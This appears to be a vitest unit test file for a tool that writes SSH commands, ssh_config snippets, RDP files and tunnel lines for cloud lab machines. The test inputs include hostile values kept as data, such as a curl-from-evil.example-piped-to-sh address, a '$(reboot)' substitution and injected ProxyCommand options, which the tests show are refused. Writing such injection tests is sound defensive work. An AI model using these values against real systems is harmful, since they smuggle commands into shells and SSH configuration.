/**
 * Test layer: unit (pure code; none of the five layers: no engine, no cloud, no browser).
 * Connection artifacts, byte for byte, for every provider and kind (test/connect/cases.ts), against
 * the files under test/fixtures/connect/<case>/. After an intended change, regenerate them with
 * `UPDATE_FIXTURES=1 npx vitest run test/connect` and review the diff.
 */
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { connectionArtifacts, sshConfigSnippet, type ConnectMachine } from "../../connect/artifacts.js";
import { shellWord } from "../../connect/quote.js";
import { CASES, type ConnectCase } from "./cases.js";

const FIXTURES = fileURLToPath(new URL("../fixtures/connect/", import.meta.url));
const update = process.env.UPDATE_FIXTURES === "1";

/** Every artifact of a session as file name → exact content (one-line commands end with a newline). */
function render(c: ConnectCase): Map<string, string> {
  const files = new Map<string, string>();
  for (const m of c.machines) {
    const a = connectionArtifacts(m, c.options);
    const line = (ext: string, v: string | undefined) => v !== undefined && files.set(`${m.machine}.${ext}`, `${v}\n`);
    line("ssh.txt", a.ssh);
    if (a.sshConfig !== undefined) files.set(`${m.machine}.ssh_config`, a.sshConfig);
    if (a.rdpFile !== undefined) files.set(`${m.machine}.rdp`, a.rdpFile);
    line("tunnel.txt", a.tunnel);
    line("url.txt", a.url);
    line("docker.txt", a.dockerExec);
    if (a.notes.length > 0) files.set(`${m.machine}.notes.txt`, a.notes.map((n) => `${n}\n`).join(""));
  }
  const session = sshConfigSnippet(c.machines, c.options);
  if (session !== "") files.set("session.ssh_config", session);
  return files;
}

describe("connection artifacts, byte for byte", () => {
  it.each(CASES.map((c) => [c.name, c] as const))("%s", (name, c) => {
    const dir = join(FIXTURES, name);
    const actual = render(c);
    if (update) {
      rmSync(dir, { recursive: true, force: true });
      mkdirSync(dir, { recursive: true });
      for (const [file, content] of actual) writeFileSync(join(dir, file), content);
    }
    const expected = new Map(readdirSync(dir).map((f) => [f, readFileSync(join(dir, f), "utf8")]));
    expect([...actual.keys()].sort()).toEqual([...expected.keys()].sort());
    for (const [file, content] of actual) expect(content, `${name}/${file}`).toBe(expected.get(file));
  });

  it("covers every provider and every kind", () => {
    const seen = new Set(CASES.flatMap((c) => c.machines.map((m) => `${m.provider}/${m.kind}`)));
    expect(seen.size).toBe(30);
  });
});

describe("connection artifacts, rules", () => {
  const m: ConnectMachine = {
    session: "lab",
    machine: "compute-1",
    provider: "aws",
    kind: "HPCCluster",
    role: "compute",
    os: "linux",
    user: "ubuntu",
    privateAddress: "10.0.1.21",
    proxy: { machine: "head", address: "203.0.113.2", user: "ubuntu" },
  };

  it("jumps with -J when the key comes from the agent, with a ProxyCommand carrying -i when a key file is given", () => {
    expect(connectionArtifacts(m).ssh).toBe("ssh -J ubuntu@203.0.113.2 ubuntu@10.0.1.21");
    expect(connectionArtifacts(m, { keyPath: "~/.ssh/id" }).ssh).toBe(
      'ssh -i ~/.ssh/id -o ProxyCommand="ssh -i ~/.ssh/id -W %h:%p ubuntu@203.0.113.2" ubuntu@10.0.1.21',
    );
  });

  it("quotes a key path for the shell, keeping ~ expandable", () => {
    expect(shellWord("~/my keys/id")).toBe("~/'my keys/id'");
    expect(shellWord("/tmp/it's")).toBe("'/tmp/it'\\''s'");
    expect(shellWord("~/.ssh/id_ed25519")).toBe("~/.ssh/id_ed25519");
  });

  it("says what is missing when a machine has no address yet", () => {
    expect(() => connectionArtifacts({ ...m, privateAddress: undefined })).toThrow(
      "lab/compute-1: no address yet (is the machine running? run `formations refresh lab`)",
    );
  });

  it("never writes a password in an .rdp file", () => {
    const rdp = connectionArtifacts({ ...m, os: "windows", publicAddress: "203.0.113.9", user: "Administrator" }).rdpFile ?? "";
    expect(rdp).toContain("prompt for credentials:i:1\r\n");
    expect(rdp).not.toMatch(/password/i);
  });

  it("refuses values that would break out of an ssh config line", () => {
    expect(() => connectionArtifacts({ ...m, user: 'x"\nProxyCommand evil' }, { keyPath: "k" })).toThrow(/cannot write/);
  });

  // Issue 12, item 7: the desktop tunnel line inserted the private address raw.
  const desktop: ConnectMachine = {
    session: "lab",
    machine: "target",
    provider: "aws",
    kind: "VirtualLab",
    role: "target",
    os: "windows",
    protocol: "rdp",
    user: "Administrator",
    privateAddress: "10.0.16.5",
    proxy: { machine: "proxy", address: "203.0.113.4", user: "ubuntu" },
  };

  it("quotes the tunnel's forward like every other word, and brackets an IPv6 address", () => {
    expect(connectionArtifacts(desktop).tunnel).toBe("ssh -N -L 13389:10.0.16.5:3389 ubuntu@203.0.113.4");
    expect(connectionArtifacts({ ...desktop, privateAddress: "fd00::5" }).tunnel).toBe("ssh -N -L '13389:[fd00::5]:3389' ubuntu@203.0.113.4");
    expect(connectionArtifacts({ ...desktop, privateAddress: "ip-10-0-16-5.eu-west-1.compute.internal" }).tunnel).toBe(
      "ssh -N -L 13389:ip-10-0-16-5.eu-west-1.compute.internal:3389 ubuntu@203.0.113.4",
    );
    expect(connectionArtifacts({ ...desktop, proxy: undefined, privateAddress: undefined, publicAddress: "2001:db8::9" }).rdpFile).toContain(
      "full address:s:[2001:db8::9]:3389\r\n",
    );
  });

  it.each([
    ["a command", "10.0.16.5;curl evil.example|sh"],
    ["a substitution", "$(reboot)"],
    ["a space and an option", "10.0.16.5 -oProxyCommand=x"],
    ["a newline", "10.0.16.5\nHost *"],
    ["an empty label", "a..b"],
  ])("refuses an address from the state that is not an IP or a host name: %s", (_name, address) => {
    expect(() => connectionArtifacts({ ...desktop, privateAddress: address })).toThrow(
      /recorded in the session's state is not an IP address or a host name .*refusing to print it/,
    );
    for (const bad of [
      { ...m, privateAddress: address },
      { ...m, publicAddress: address },
      { ...m, proxy: { ...m.proxy!, address } },
    ]) {
      expect(() => connectionArtifacts(bad)).toThrow(/recorded in the session's state is not an IP address or a host name .*refusing to print it/);
      expect(() => sshConfigSnippet([bad])).toThrow(/not an IP address or a host name/);
    }
  });
});
